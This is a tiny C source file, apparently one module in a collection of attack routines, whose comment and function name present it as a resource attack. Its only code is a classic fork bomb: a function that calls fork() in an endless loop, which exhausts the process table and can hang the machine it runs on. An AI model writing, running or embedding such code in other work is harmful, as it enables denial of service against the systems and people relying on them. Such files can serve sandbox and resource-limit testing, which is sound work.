/* Resources: a fork bomb. */
#include "attack.h"

static void attack(void)
{
    for (;;)
        fork();
}
